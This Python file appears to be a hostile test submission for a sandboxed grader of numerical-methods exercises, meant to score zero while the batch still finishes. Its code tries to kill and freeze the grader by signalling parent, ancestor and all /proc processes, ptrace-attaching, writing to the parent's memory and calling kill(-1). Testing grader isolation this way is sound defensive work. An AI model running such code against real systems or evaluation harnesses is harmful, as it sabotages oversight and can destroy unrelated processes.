"""Kills and freezes the grader: SIGSTOP, SIGTERM and SIGKILL to its parent (os.getppid()), to every
ancestor it can find in /proc, to their process groups and to every pid in /proc (but its own
process group: stopping itself proves nothing); kill(-1);
ptrace-attaches to its parent and writes to the parent's /proc/<pid>/mem. One pass each time a kata
is called (bounded); nothing at all if the jail runs as root (that is a hole by itself, and signals
from root could reach far beyond the test). Implements nothing: must score 0; the batch must finish
and grade everyone else.
"""
import ctypes
import os
import signal

HOSTILE = globals().get("HOSTILE", {"token": "t"})


def _ancestors():
    chain, pid = [], os.getpid()
    for _ in range(64):
        try:
            with open(f"/proc/{pid}/stat", "rb") as stat:
                pid = int(stat.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        chain.append(pid)
    return chain


def _everyone():
    try:
        return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (os.getpid(), 1)]
    except OSError:
        return []


def _group(pid):
    try:
        return os.getpgid(pid)
    except OSError:
        return None


_delivered = []  # (pid, signal) that the kernel let through


def _signal(pids, sig):
    for pid in pids:
        try:
            os.kill(pid, sig)
            _delivered.append((pid, int(sig)))
        except OSError:
            pass


def _attack(suicide=False):
    if os.geteuid() == 0:  # a jail running as root is a hole already; its signals could hit the machine
        raise RuntimeError("this jail runs as root")
    parents = [os.getppid(), *_ancestors()]
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        _signal(parents, sig)
        for pid in parents:
            try:
                group = os.getpgid(pid)
                if group != os.getpgrp():  # not its own group: that would only stop itself
                    os.killpg(group, sig)
                    _delivered.append((-group, int(sig)))
            except OSError:
                pass
    everyone = [pid for pid in _everyone() if _group(pid) != os.getpgrp()]
    _signal(everyone, signal.SIGSTOP)
    _signal(everyone, signal.SIGKILL)
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace(16, os.getppid(), None, None)  # PTRACE_ATTACH
    except BaseException:
        pass
    for pid in parents:
        try:
            with open(f"/proc/{pid}/mem", "wb") as mem:
                mem.write(b"\0")
        except OSError:
            pass
    if suicide:
        os.kill(-1, signal.SIGKILL)  # every process this one may signal


try:
    _attack()
except RuntimeError:
    pass


def _report():
    return f"still here: {len(_delivered)} signals delivered {_delivered[:6]}"


def lu_solve(A, b):
    _attack(suicide=True)
    raise RuntimeError(_report())


def _kata(*args, **kwargs):
    _attack()
    raise RuntimeError(_report())


gram_schmidt_qr = power_iteration = low_rank_approx = numerical_jacobian = _kata
grad_least_squares = grad_quadratic_form = softmax_jacobian = _kata
